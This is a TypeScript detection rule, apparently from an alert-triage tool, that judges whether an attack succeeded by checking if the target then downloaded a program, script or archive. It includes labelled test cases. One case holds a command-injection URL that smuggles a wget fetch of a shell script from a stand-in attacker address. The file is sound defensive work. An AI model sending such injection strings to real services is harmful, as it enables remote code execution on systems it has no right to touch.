import { defineImpactTest, type Finding } from '../define.ts'
import { AT_ONCE, laterThan, mayFollow } from '../reading/attribution.ts'
import { callsOut, targetCalled } from '../reading/flows.ts'
import { alerted, conn, fileinfo, TARGET } from '../reading/made-records.ts'
import { namedHosts } from '../reading/named-hosts.ts'
import { kindOfFile, transfersOf, type Transfer } from '../reading/transfers.ts'
import { citesOf, eventsOf, secondsText } from '../reading/values.ts'

const WORDS = {
  program: { en: 'a program', ko: '실행 파일' },
  script: { en: 'a script', ko: '스크립트' },
  archive: { en: 'an archive', ko: '압축 파일' },
} as const

export default defineImpactTest({
  id: 'downloads-program',
  family: 'next',
  title: { en: 'The target fetches a program', ko: '실행 파일 내려받기' },
  reasoning: {
    en: 'What an attack runs first mostly fetches the rest; a server that fetches a program from the attacker does what it was told.',
    ko: '공격 코드는 먼저 나머지 파일을 내려받습니다. 서버가 공격자로부터 실행 파일을 받으면 공격 코드가 실행된 것입니다.',
  },
  spec: 'https://attack.mitre.org/techniques/T1105/',
  appliesTo: 'Attacks on a service, where files were seen that the target, as the client, received by HTTP, FTP or SMB.',
  reads: ['own', 'flow', 'after', 'exchanges', 'knownPeers', 'attacker', 'target'],
  applies: (of) => of.target.ip !== null && mayFollow(of) && !targetCalled(of),
  test(of) {
    const { target, attacker, knownPeers, isOurs, alert } = of
    const called = new Set(callsOut(of).map(({ server }) => `${server.ip} ${server.port}`))
    const named = namedHosts(of)
    const findings = transfersOf(eventsOf(of.flow, of.after)).flatMap((file): Finding[] => {
      if (file.time < alert.first || file.to !== target.ip || !isClient(file, called)) return []
      const kind = kindOfFile(file)
      if (kind === 'other') return []
      if (file.status !== null && (file.status < 200 || file.status > 299)) return []
      if (file.whole === false || file.size === 0) return []
      const told = file.from === attacker.ip || named.has(file.from)
      if (knownPeers.has(file.from) || (isOurs(file.from) && !told)) return []
      const soon = named.has(file.from) || laterThan(of, file.time) <= AT_ONCE
      const { en, ko } = WORDS[kind]
      const name = file.name.slice(0, 200) || '?'
      return [
        {
          result: told && soon && kind !== 'archive' ? 'succeeded' : 'likely',
          confidence: !soon ? 0.5 : told ? (kind === 'archive' ? 0.8 : 0.95) : kind === 'archive' ? 0.5 : 0.75,
          reason: {
            en: `${secondsText(file.time - alert.first)} s after the attack ${target.ip} fetched ${en} (${name}) from ${file.from}.`,
            ko: `공격 후 ${secondsText(file.time - alert.first)}초 뒤 표적이 파일을 내려받았습니다. 종류: ${ko}, 이름: ${name}, 보낸 주소: ${file.from}`,
          },
          cites: citesOf(file.events),
        },
      ]
    })
    const rank = ({ result, confidence }: Finding): number => (result === 'succeeded' ? 1 : 0) + confidence
    return findings.length === 0 ? null : findings.reduce((best, one) => (rank(one) > rank(best) ? one : best))
  },
  examples: [
    {
      name: 'a program of the attacker',
      of: {
        title: 'Remote code execution',
        own: [alerted(0)],
        after: [conn(6, { port: 80, fromPort: 40_200 }), fileinfo(7, '/x/agent', { 'file.type': 'application/x-executable' })],
      },
      expect: 'succeeded',
    },
    {
      name: 'a script from where the request names it, as Zeek tells it',
      of: {
        title: 'Command injection',
        own: [alerted(0, { 'http.url': '/ping?h=;wget%20http://198.51.100.7/a.sh' })],
        after: [
          {
            at: 4,
            type: 'files',
            format: 'zeek-json',
            fields: {
              'src.ip': TARGET,
              'src.port': 40_900,
              'dst.ip': '198.51.100.7',
              'dst.port': 80,
              is_orig: false,
              'file.type': 'text/x-shellscript',
              seen_bytes: 812,
              'file.size': 812,
              missing_bytes: 0,
              timedout: false,
            },
          },
        ],
      },
      expect: 'succeeded',
    },
    {
      name: 'a program from a new address',
      of: {
        title: 'Remote code execution',
        own: [alerted(0)],
        after: [fileinfo(70, '/setup.exe', { 'src.ip': '198.51.100.7', 'fileinfo.magic': 'PE32 executable (GUI) Intel 80386' })],
      },
      expect: 'likely',
    },
    {
      name: 'packages from the mirror that it always uses',
      of: {
        title: 'Remote code execution',
        own: [alerted(0)],
        after: [fileinfo(70, '/pool/libc6.deb', { 'src.ip': '198.51.100.20', 'file.type': 'application/x-executable' })],
        knownPeers: ['198.51.100.20'],
      },
      expect: null,
    },
    {
      name: 'what the attacker uploads is no fetch',
      of: {
        title: 'PHP file uploaded',
        own: [alerted(0)],
        after: [fileinfo(0, 'inv.php', { 'src.port': 40_000, 'dst.port': 80, 'file.type': 'application/x-php' })],
      },
      expect: null,
    },
    {
      name: 'a script of a site that is a page, and a program that is not there',
      of: {
        title: 'Remote code execution',
        own: [alerted(0)],
        after: [
          fileinfo(9, '/index.php', { 'file.type': 'text/html' }),
          fileinfo(12, '/agent.exe', { 'http.status': 404, 'file.type': 'text/html' }),
          fileinfo(15, '/agent.bin', { 'fileinfo.state': 'TRUNCATED', 'file.type': 'application/x-executable' }),
        ],
      },
      expect: null,
    },
    {
      name: 'a backup server of ours',
      of: {
        title: 'Remote code execution',
        own: [alerted(0)],
        after: [fileinfo(9, '/agent.msi', { 'src.ip': '10.1.0.30', 'file.type': 'application/x-msi' })],
      },
      expect: null,
    },
  ],
})

/** The target opened the flow that the file came by: seen, or, where no record of it was, by the ports. */
function isClient({ from, fromPort, toPort }: Transfer, called: ReadonlySet<string>): boolean {
  if (fromPort === null) return false
  return called.has(`${from} ${fromPort}`) || (toPort !== null && toPort >= 1024 && fromPort < toPort && toPort > 10_000)
}
